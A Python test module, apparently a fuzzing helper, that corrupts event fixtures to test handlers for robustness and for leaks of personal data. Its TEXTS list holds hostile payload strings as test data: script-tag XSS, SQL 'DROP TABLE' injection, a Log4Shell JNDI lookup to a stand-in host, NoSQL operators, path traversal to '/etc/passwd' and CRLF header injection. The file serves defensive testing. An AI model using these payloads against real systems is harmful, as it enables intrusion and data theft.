"""Malformed and hostile inputs: every fixture of `events/`, spoiled in ways that bugs and attackers think of."""

import json
import random
import re
from collections.abc import Callable, Iterator
from copy import deepcopy
from functools import cache
from typing import Any

from tests.functional.deployment import ROOT

MARKS = ("zebulonsecret", "447700900777", "quincemarmalade")
"""Stand in every personal value that goes in; no log, metric or reason may have them."""

NAME, MAIL, PHONE = "Zebulonsecret Quincemarmalade", "zebulonsecret@example.org", "+447700900777"
PERSONAL = {
    '"ada"': '"zebulonsecret-id"',
    "ada@example.com": MAIL,
    "+447700900123": PHONE,
    "447700900123": PHONE[1:],
    "Ada Example": NAME,
    "Brass lamp": "Quincemarmalade",
}
TEXTS = (
    NAME,
    MAIL,
    PHONE,
    f"{NAME}\r\nBcc: {MAIL}",
    f"<script>alert('{NAME}')</script>",
    f"'; DROP TABLE {MARKS[0]}; --",
    '{"$gt": "zebulonsecret"}',
    "{{ user.name }}{% for i in (1..999999) %}zebulonsecret{% endfor %}",
    "${jndi:ldap://zebulonsecret.example/x}",
    "../../../zebulonsecret",
    f"{MARKS[0]}#{MARKS[2]}|{MARKS[0]}\x1f",
    f"USER#{MARKS[0]}",
    "\x00zebulonsecret\x07\x1b[31m",
    "zebulonsecret\u202e\u2066\ufeff\u200b",
    "z" + "\u0301" * 500 + "ebulonsecret",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 zebulonsecret",
    "zebulonsecret" * 40,
    "zebulonsecret" * 8_000,
    "zebulonsecret\ud800",
    "\ud800",
    "",
    " ",
    "null",
    "NaN",
    "9" * 5_000,
    "2026-11-02T12:00:00",
    "2026-02-30T25:61:00Z",
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59+14:00",
    "9999-12-31T23:59:59.999999-12:00",
    "1970-01-01T00:00:00Z",
    "2026-11-02T12:00:00+99:99",
    "Europe/Zebulonsecret",
    "../etc/passwd",
    "/etc/localtime",
    "javascript:alert('zebulonsecret')",
    "https://zebulonsecret.example/\r\nX: y",
    "arn:aws:sns:eu-west-1:123456789012:endpoint/GCM/zebulonsecret",
)
VALUES: tuple[Any, ...] = (
    None, True, False, 0, -1, 1, 2**31, 2**53 + 1, 2**63, 2**64, -(2**63) - 1, 10**30, 10**400, 0.1, -0.0, 1e308,
    1e-320, float("nan"), float("inf"), float("-inf"), [], {}, [[]], [{}], {"": ""}, [None] * 150,
    {"zebulonsecret": NAME}, [NAME, MAIL], {MAIL: {NAME: [PHONE]}}, {"a": {"b": {"c": {"d": NAME}}}},
)  # fmt: skip
NAMES = (
    "user_id", "anonymous_id", "message_id", "timestamp", "properties", "context", "trigger", "products", "push",
    "channel", "status", "Records", "Type", "TopicArn", "Message", "wake_up", "message", "detail", "detail-type",
    "source", "whatsAppWebhookEntry", "EndpointArn", "EventType", "__proto__", "__class__", "model_config",
    "zebulonsecret",    "model_fields", "source\x00", "", "expires_at", "segments", "timezone", "step", "items",
)  # fmt: skip
EVENT_NAMES = (
    "Product Added", "Order Completed", "Profile Updated", "Consent Updated", "Product Updated", "Address Disabled",
    "Message Failed", "Message Opened", "Message Sent", "Identity Linked", "Zebulonsecret Happened", "", "\x00",
)  # fmt: skip
Spoil = Callable[[random.Random, Any], Any]


@cache
def corpus() -> dict[str, tuple[str, ...]]:
    """Every single body in the fixtures of each function, its personal values marked, as JSON."""
    found: dict[str, list[str]] = {}
    for path in sorted((ROOT / "events").glob("*/*.json")):
        found.setdefault(path.parent.name, []).extend(_bodies(json.loads(path.read_text())))
    return {name: tuple(dict.fromkeys(marked(body) for body in bodies)) for name, bodies in found.items()}


def _bodies(event: Any) -> Iterator[str]:
    if "Records" in event:
        yield from (each["body"] for each in event["Records"] if "body" in each)
    else:
        yield json.dumps(event)


def marked(text: str) -> str:
    """`text` with every personal value of the fixtures made one that can be searched for."""
    for plain, mark in PERSONAL.items():
        text = text.replace(plain, mark).replace(plain.replace('"', '\\"'), mark.replace('"', '\\"'))
    return text


def hostile(rng: random.Random, function: str) -> str:
    """One input for `function`: mostly a spoiled one of its own, sometimes another's, sometimes no JSON at all."""
    bodies = corpus()
    own = bodies.get(function) if rng.random() < 0.85 else None
    text = rng.choice(own or bodies[rng.choice(list(bodies))])
    if rng.random() < 0.06:
        return rng.choice(TEXTS)
    try:
        body = json.loads(text)
    except ValueError:
        return spoiled_text(rng, text)
    for _ in range(rng.choice((1, 1, 1, 2, 3))):
        body = rng.choice(SPOILS)(rng, body)
    text = written(rng, body)
    return spoiled_text(rng, text) if rng.random() < 0.12 else text


def written(rng: random.Random, body: Any) -> str:
    """`body` as JSON: mostly with plain escapes, sometimes in raw Unicode, and NaN as Python writes it."""
    return json.dumps(body, ensure_ascii=rng.random() < 0.8)


def _places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    pairs = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, each in pairs:
        yield (*path, key)
        yield from _places(each, (*path, key))


def _at(body: Any, path: tuple[Any, ...]) -> Any:
    for key in path:
        body = body[key]
    return body


def _change(rng: random.Random, body: Any, change: Callable[[Any, Any], None]) -> Any:
    places = list(_places(body))
    if places:
        *way, last = rng.choice(places)
        change(_at(body, tuple(way)), last)
    return body


def value(rng: random.Random) -> Any:
    """Something that does not belong where it is put."""
    return rng.choice(TEXTS) if rng.random() < 0.6 else deepcopy(rng.choice(VALUES))


def replaced(rng: random.Random, body: Any) -> Any:
    """Another value in one place."""
    return _change(rng, body, lambda inner, key: inner.__setitem__(key, value(rng)))


def removed(rng: random.Random, body: Any) -> Any:
    """One place less."""
    return _change(rng, body, lambda inner, key: inner.__delitem__(key))


def added(rng: random.Random, body: Any) -> Any:
    """A field more somewhere, of a name that means something elsewhere."""

    def add(inner: Any, key: Any) -> None:
        if isinstance(inner, dict):
            inner[rng.choice(NAMES)] = value(rng)

    return _change(rng, body, add)


def renamed(rng: random.Random, body: Any) -> Any:
    """Another event in the same envelope."""
    if isinstance(body, dict):
        body["detail-type"] = rng.choice(EVENT_NAMES)
        body["source"] = rng.choice(("shop", "nudgekit", "aws.ses", "aws.sms-voice", ""))
    return body


def swapped(rng: random.Random, body: Any) -> Any:
    """The value of one place in another."""
    places = list(_places(body))
    if len(places) > 1:
        (*way, last), other = rng.choice(places), rng.choice(places)
        taken = json.loads(json.dumps(_at(body, other)))
        _at(body, tuple(way))[last] = taken
    return body


def nested(rng: random.Random, body: Any) -> Any:
    """Something deep, or something wide."""

    def put(inner: Any, key: Any) -> None:
        deep: Any = NAME
        for _ in range(rng.choice((3, 50, 200))):
            deep = {"zebulonsecret": deep} if rng.random() < 0.5 else [deep]
        wide = {f"zebulonsecret{number}": value(rng) for number in range(rng.choice((5, 80, 400)))}
        inner[key] = deep if rng.random() < 0.5 else wide

    return _change(rng, body, put)


def wrapped(rng: random.Random, body: Any) -> Any:
    """In an envelope of SNS, in one that only looks like it, or in one too many."""
    text = json.dumps(body)
    return rng.choice(
        (
            {"Type": "Notification", "TopicArn": "arn:aws:sns:x", "Message": text},
            {"Type": "Notification", "TopicArn": value(rng), "Message": value(rng)},
            {"Type": "SubscriptionConfirmation", "TopicArn": "arn:aws:sns:x", "Message": text},
            {"Records": [{"body": text, "messageId": value(rng)}]},
            {"Records": value(rng)},
            {"detail": body},
            {"whatsAppWebhookEntry": text},
            {"whatsAppWebhookEntry": value(rng)},
            {"wake_up": body},
            {"message": body},
            [body],
        )
    )


SPOILS: tuple[Spoil, ...] = (replaced, replaced, replaced, replaced, removed, added, renamed, swapped, nested, wrapped)


def spoiled_text(rng: random.Random, text: str) -> str:
    """JSON that is none any more, or that says something twice."""
    at = rng.randrange(len(text) + 1)
    return rng.choice(
        (
            text[:at],
            text[:at] + rng.choice(TEXTS) + text[at:],
            text[:at]
            + rng.choice(("NaN", "Infinity", "1e999", "-", "\\u0000", "\\ud800", "\x00", "}", "]", ","))
            + text[at:],
            "\ufeff" + text,
            text.encode("utf-16", errors="replace").decode("latin-1"),
            text.encode(errors="replace").decode("cp1252", errors="replace"),
            "[" * rng.choice((10, 1_000, 100_000)) + text,
            '{"a":' * rng.choice((10, 1_000, 50_000)) + "1",
            re.sub(r'"user_id": ?"[^"]*"', '"user_id": "first", "user_id": "zebulonsecret"', text),
            re.sub(r'("timestamp": ?)', r'\1"2001-01-01T00:00:00Z", \1', text, count=1),
            text + text,
            re.sub(r"\d+", lambda found: found[0] * 400, text, count=1),
        )
    )
